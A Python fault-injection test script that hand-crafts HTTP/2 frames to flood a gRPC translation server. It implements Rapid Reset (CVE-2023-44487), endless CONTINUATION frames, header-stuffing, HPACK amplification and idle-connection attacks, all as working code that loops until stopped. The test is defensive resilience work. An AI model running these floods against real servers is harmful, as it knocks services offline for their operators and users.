"""Hostile clients, in HTTP/2 frames made by hand (RFC 9113, RFC 7541), as no library would send them.

python tests/faults/attacks.py resets 127.0.0.1 50051 10000

After so many of them a line is written to standard output, and it begins anew until the process is ended.
Where the server closes a connection, another is opened.
"""

from __future__ import annotations

import contextlib
import os
import select
import socket
import sys
import time
from collections.abc import Callable, Iterator

from dragoman.v1.translation_pb2 import TranslateRequest

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = (8).to_bytes(4, "big")
MAX_FRAME = 16384
PATIENCE_SECONDS = 10.0


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def string(text: str) -> bytes:
    """HPACK: the length as an integer with a prefix of 7 bits, then the text as it is."""
    data, prefix = text.encode(), 0x7F
    if len(data) < prefix:
        return bytes((len(data),)) + data
    length, rest = bytes((prefix,)), len(data) - prefix
    while rest >= 0x80:
        length += bytes((0x80 | rest & 0x7F,))
        rest >>= 7
    return length + bytes((rest,)) + data


def header(name: str, value: str) -> bytes:
    """HPACK: a literal that enters no table."""
    return b"\x00" + string(name) + string(value)


CALL = b"".join(
    header(name, value)
    for name, value in {
        ":method": "POST",
        ":scheme": "http",
        ":path": "/dragoman.v1.TranslationService/Translate",
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }.items()
)
MESSAGE = TranslateRequest(texts=["The dog sleeps."]).SerializeToString()
REQUEST = b"\x00" + len(MESSAGE).to_bytes(4, "big") + MESSAGE


class Connection:
    """Says what HTTP/2 begins with, then what it is told to; what comes back is read and thrown away."""

    def __init__(self, host: str, port: int) -> None:
        self._socket = socket.create_connection((host, port), PATIENCE_SECONDS)
        self._socket.setblocking(False)
        self.send(PREFACE + frame(SETTINGS, 0, 0, b""))

    def send(self, data: bytes) -> None:
        remaining = memoryview(data)
        while remaining:
            readable, writable, _ = select.select([self._socket], [self._socket], [], PATIENCE_SECONDS)
            if not readable and not writable:
                raise TimeoutError("the server reads nothing")
            if readable and not self._socket.recv(65536):
                raise ConnectionResetError("the server has closed the connection")
            if writable:
                remaining = remaining[self._socket.send(remaining) :]

    def close(self) -> None:
        self._socket.close()


def resets() -> Iterator[bytes]:
    """Whole calls, each taken back in the same breath (CVE-2023-44487)."""
    for stream in range(1, 2**31, 2):
        yield (
            frame(HEADERS, END_HEADERS, stream, CALL)
            + frame(DATA, END_STREAM, stream, REQUEST)
            + frame(RST_STREAM, 0, stream, CANCEL)
        )


def endless_headers() -> Iterator[bytes]:
    """A block of headers that never ends (CVE-2024-27316 and its kin)."""
    yield frame(HEADERS, 0, 1, CALL)
    block = header("x-filler", "y" * (MAX_FRAME - 100))
    while True:
        yield frame(CONTINUATION, 0, 1, block)


def many_headers() -> Iterator[bytes]:
    """Calls with as many tiny headers as a frame holds, which never get their message."""
    tiny = header("a", "b")
    block = CALL + tiny * ((MAX_FRAME - len(CALL)) // len(tiny))
    for stream in range(1, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, block)


def repeated_header() -> Iterator[bytes]:
    """Calls of which each enters one long header in the table and names it 10,000 times, a byte each time."""
    block = CALL + b"\x40" + string("x-long") + string("y" * 3000) + b"\xbe" * 10_000
    for stream in range(1, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, block)


def flood(frames: Callable[[], Iterator[bytes]], host: str, port: int, count: int) -> None:
    sent = 0
    while sent < count:
        connection = Connection(host, port)
        with contextlib.closing(connection), contextlib.suppress(OSError):
            for data in frames():
                sent += 1
                connection.send(data)
                if sent >= count:
                    break


def stay(host: str, port: int, count: int) -> list[Connection | socket.socket]:
    """Connections on which nothing happens; every other one does not even say that it speaks HTTP/2."""
    return [
        Connection(host, port) if number % 2 else socket.create_connection((host, port))
        for number in range(count)
    ]


def main(name: str, host: str, port: str, count: str) -> None:
    # A hostile client has a machine of its own: here it should not take the server's time.
    os.nice(10)
    attacks = {one.__name__: one for one in (resets, endless_headers, many_headers, repeated_header)}
    while True:
        if name == "idle":
            held = stay(host, int(port), int(count))
        else:
            flood(attacks[name], host, int(port), int(count))
        sys.stdout.write(f"{count}\n")
        sys.stdout.flush()
        if name == "idle":
            time.sleep(3600)
            held.clear()


if __name__ == "__main__":
    main(*sys.argv[1:])
